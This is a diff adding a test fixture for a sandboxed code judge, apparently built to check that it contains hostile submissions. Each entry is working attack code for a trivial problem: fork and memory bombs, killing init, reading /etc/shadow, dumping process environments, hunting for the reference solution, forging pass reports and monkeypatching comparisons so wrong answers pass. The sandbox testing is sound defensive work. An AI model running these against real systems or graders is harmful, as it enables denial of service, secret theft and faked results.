@@ -1,0 +1,512 @@
+"""Hostile submissions for the test problem `f(x) = 2x`, each with the verdicts it may get.
+
+Every entry is real attack code a learner could submit. `verdicts` is what the judge may
+answer; only entries whose code also computes 2x correctly may be AC. `__PORT__` in a
+source is replaced by the port of a server the test listens on in the host's loopback.
+The reference of the test problem carries MARKER, which must never reach a report.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+MARKER = "REFERENCE-SECRET-7f3a9c"
+HOST_SECRET_ENV = "JUDGE_TEST_HOST_SECRET"
+HOST_SECRET = "host-secret-e41b27d5"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    source: str
+    verdicts: frozenset[str]
+    # Strings that must not appear anywhere in the report (besides MARKER and HOST_SECRET).
+    must_not_leak: tuple[str, ...] = ()
+
+
+def _h(name: str, verdicts: str, source: str) -> Hostile:
+    return Hostile(name, source.strip() + "\n", frozenset(verdicts.split()))
+
+
+HOSTILE: list[Hostile] = [
+    # --- processes and threads ---------------------------------------------------------
+    _h(
+        "fork_bomb",
+        "TLE RE",
+        """
+import os
+def f(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+""",
+    ),
+    _h(
+        "thread_bomb",
+        "RE TLE",
+        """
+import threading, time
+def f(x):
+    while True:
+        threading.Thread(target=time.sleep, args=(3600,)).start()
+""",
+    ),
+    _h(
+        "daemon_outlives_run",
+        "WA",
+        """
+import os, time
+def f(x):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while True:
+                try:
+                    open('/tmp/still-alive', 'w').write(str(time.time()))
+                except OSError:
+                    pass
+                time.sleep(0.1)
+        os._exit(0)
+    return x * 3
+""",
+    ),
+    _h(
+        "kill_parent_and_pid1",
+        "WA RE",
+        """
+import os, signal
+def f(x):
+    for target in (os.getppid(), 1):
+        try:
+            os.kill(target, signal.SIGKILL)
+        except OSError:
+            pass
+    try:
+        os.kill(-1, signal.SIGKILL)
+    except OSError:
+        pass
+    return x * 3
+""",
+    ),
+    _h(
+        "sigstop_self",
+        "TLE",
+        """
+import os, signal
+def f(x):
+    os.kill(os.getpid(), signal.SIGSTOP)
+    return x * 2
+""",
+    ),
+    _h(
+        "ignore_sigterm_and_sleep",
+        "TLE",
+        """
+import signal, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+def f(x):
+    time.sleep(3600)
+""",
+    ),
+    _h(
+        "ptrace_pid1",
+        "RE",
+        """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+def f(x):
+    PTRACE_ATTACH = 16
+    if libc.ptrace(PTRACE_ATTACH, 1, 0, 0) == 0:
+        return x * 2  # attached to init: the sandbox failed, and this would pass
+    raise PermissionError(f"ptrace refused: errno {ctypes.get_errno()}")
+""",
+    ),
+    _h(
+        "setuid_root",
+        "RE",
+        """
+import os
+def f(x):
+    os.setuid(0)
+    return x * 2
+""",
+    ),
+    _h(
+        "mount_syscall",
+        "RE",
+        """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def f(x):
+    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
+        return x * 2
+    raise PermissionError(f"mount refused: errno {ctypes.get_errno()}")
+""",
+    ),
+    # --- memory ----------------------------------------------------------------------------
+    _h(
+        "heap_bomb",
+        "MLE",
+        """
+keep = []
+def f(x):
+    while True:
+        keep.append(b"x" * 10_000_000)
+""",
+    ),
+    _h(
+        "tensor_bomb",
+        "MLE",
+        """
+import torch
+keep = []
+def f(x):
+    while True:
+        keep.append(torch.ones(10_000_000))
+""",
+    ),
+    _h(
+        "dev_shm_bomb",
+        "RE MLE",
+        """
+def f(x):
+    with open('/dev/shm/bomb', 'wb') as out:
+        while True:
+            out.write(b'x' * 1_000_000)
+""",
+    ),
+    _h(
+        "tmpfs_bomb",
+        "RE MLE",
+        """
+import itertools
+def f(x):
+    for i in itertools.count():
+        with open(f'/tmp/bomb{i}', 'wb') as out:
+            for _ in range(8):
+                out.write(b'x' * 1_000_000)
+""",
+    ),
+    _h(
+        "gigabyte_output_tensor",
+        "MLE OLE",
+        """
+import torch
+def f(x):
+    return torch.zeros(2**28)
+""",
+    ),
+    # --- time ------------------------------------------------------------------------------
+    _h(
+        "cpu_spin",
+        "TLE",
+        """
+def f(x):
+    while True:
+        pass
+""",
+    ),
+    _h(
+        "sleep",
+        "TLE",
+        """
+import time
+def f(x):
+    time.sleep(3600)
+""",
+    ),
+    _h(
+        "import_time_infinite_loop",
+        "TLE",
+        """
+while True:
+    pass
+def f(x):
+    return x * 2
+""",
+    ),
+    _h(
+        "deep_recursion",
+        "RE",
+        """
+def f(x):
+    def down(n):
+        return down(n + 1) + 1
+    return down(0)
+""",
+    ),
+    _h(
+        "c_stack_overflow",
+        "RE MLE",
+        """
+import sys
+sys.setrecursionlimit(10**8)
+class Deep:
+    def __repr__(self):
+        return repr(Deep())  # each level goes through C code, on the C stack
+def f(x):
+    return repr(Deep())
+""",
+    ),
+    # --- output ----------------------------------------------------------------------------
+    _h(
+        "huge_stdout",
+        "OLE",
+        """
+def f(x):
+    while True:
+        print("spam" * 250)
+""",
+    ),
+    _h(
+        "huge_stderr",
+        "OLE",
+        """
+import sys
+def f(x):
+    while True:
+        sys.stderr.write("spam" * 250 + "\\n")
+""",
+    ),
+    _h(
+        "binary_garbage_on_stdout",
+        "AC",
+        """
+import os, sys
+sys.stdout.buffer.write(os.urandom(4096) + b"\\x00\\xff JDG1")
+sys.stdout.flush()
+def f(x):
+    return x * 2
+""",
+    ),
+    _h(
+        "garbage_into_result_stream",
+        "RE",
+        """
+import os
+def f(x):
+    for fd in os.listdir('/proc/self/fd'):
+        if int(fd) > 2:
+            try:
+                os.write(int(fd), os.urandom(512))
+            except OSError:
+                pass
+    return x * 2
+""",
+    ),
+    _h(
+        "fake_ac_report_then_exit",
+        "RE",
+        """
+import json, os
+def f(x):
+    report = json.dumps({"verdict": "AC", "score": 100, "max_score": 100, "cases": []}).encode()
+    for fd in range(1, 10):
+        try:
+            os.write(fd, report + b"JDG1" + bytes(12))
+        except OSError:
+            pass
+    os._exit(0)
+""",
+    ),
+    _h(
+        "close_result_stream",
+        "RE",
+        """
+import os
+def f(x):
+    for fd in range(3, 64):
+        try:
+            os.close(fd)
+        except OSError:
+            pass
+    return x * 2
+""",
+    ),
+    _h(
+        "disk_fill",
+        "RE",
+        """
+def f(x):
+    for path in ('/judge-was-here', '/usr/judge-was-here', '/opt/judge/judge/grading.py'):
+        try:
+            open(path, 'w').write('pwned')
+        except OSError:
+            pass
+    with open('/tmp/big', 'wb') as out:
+        while True:
+            out.write(b'x' * 1_000_000)
+""",
+    ),
+    _h(
+        "plant_links_and_fifos_then_answer",
+        "AC",
+        """
+import os
+for path in ('/tmp/result', '/tmp/out.frames', '/tmp/report.json'):
+    try:
+        os.symlink('/etc/passwd', path)
+    except OSError:
+        pass
+for path in ('/tmp/fifo', '/tmp/results'):
+    try:
+        os.mkfifo(path)
+    except OSError:
+        pass
+try:
+    os.symlink('/proc/1/fd/1', '/tmp/stdout-of-init')
+except OSError:
+    pass
+def f(x):
+    return x * 2
+""",
+    ),
+    # --- network ---------------------------------------------------------------------------
+    _h(
+        "connect_to_host_loopback",
+        "RE",
+        """
+import socket
+def f(x):
+    for host in ('127.0.0.1', '172.17.0.1', '10.0.2.2', 'host.docker.internal'):
+        try:
+            with socket.create_connection((host, __PORT__), timeout=1) as s:
+                s.sendall(b'pwned')
+                return x * 2
+        except OSError:
+            pass
+    raise ConnectionError('no way out')
+""",
+    ),
+    _h(
+        "dns_lookup",
+        "RE",
+        """
+import socket
+def f(x):
+    socket.getaddrinfo('deb.debian.org', 80)
+    return x * 2
+""",
+    ),
+    _h(
+        "raw_socket",
+        "RE",
+        """
+import socket
+def f(x):
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    return x * 2
+""",
+    ),
+    # --- secrets ---------------------------------------------------------------------------
+    _h(
+        "read_etc_shadow",
+        "RE",
+        """
+def f(x):
+    raise RuntimeError(open('/etc/shadow').read())
+""",
+    ),
+    _h(
+        "steal_reference_and_expected",
+        "RE",
+        """
+import os
+def f(x):
+    found = []
+    for top in ('/', '/tmp', '/opt', '/root', '/home', '/var', '/srv', '/work', '/proc/1/root', '/proc/1/cwd'):
+        for base, dirs, files in os.walk(top):
+            if base.startswith(('/proc/sys', '/sys', '/usr/lib', '/usr/share', '/usr/local/lib')):
+                dirs[:] = []
+                continue
+            for name in files:
+                if name.endswith(('.py', '.frames', '.json', '.safetensors')) and 'dist-packages' not in base:
+                    path = os.path.join(base, name)
+                    try:
+                        text = open(path, errors='replace').read(100_000)
+                    except OSError:
+                        continue
+                    if 'REFERENCE-SECRET' in text or name in ('reference.py', 'cases.py') or name.endswith('.frames'):
+                        found.append(path + ':' + text[:2000])
+    raise RuntimeError('found: ' + repr(found))
+""",
+    ),
+    _h(
+        "dump_environment",
+        "RE",
+        """
+import os
+def f(x):
+    dump = [repr(dict(os.environ))]
+    for pid in os.listdir('/proc'):
+        if pid.isdigit():
+            try:
+                dump.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))
+            except OSError:
+                pass
+    raise RuntimeError(' | '.join(dump))
+""",
+    ),
+    # --- lying about results -----------------------------------------------------------------
+    _h(
+        "monkeypatch_comparisons",
+        "WA",
+        """
+import torch
+import torch.testing
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: True
+torch.testing.assert_close = lambda *a, **k: None
+def f(x):
+    return x * 3
+""",
+    ),
+    _h(
+        "nan_outputs",
+        "WA",
+        """
+def f(x):
+    return x * float('nan')
+""",
+    ),
+    _h(
+        "tensor_subclass_liar",
+        "WA RE",
+        """
+import torch
+class Liar(torch.Tensor):
+    def __eq__(self, other):
+        return True
+    def tolist(self):
+        return [0.0]
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return super().__torch_function__(func, types, args, kwargs or {})
+def f(x):
+    return (x * 3).as_subclass(Liar)
+""",
+    ),
+    _h(
+        "system_exit_in_entry_point",
+        "RE",
+        """
+def f(x):
+    raise SystemExit(0)
+""",
+    ),
+    _h(
+        "exit_zero_at_import",
+        "RE",
+        """
+import os
+os._exit(0)
+""",
+    ),
+]
+
+CORRECT = "def f(x):\n    return x * 2\n"
+OVERSIZED = "# padding\n" * 30_000 + CORRECT  # over the 256 KiB source limit
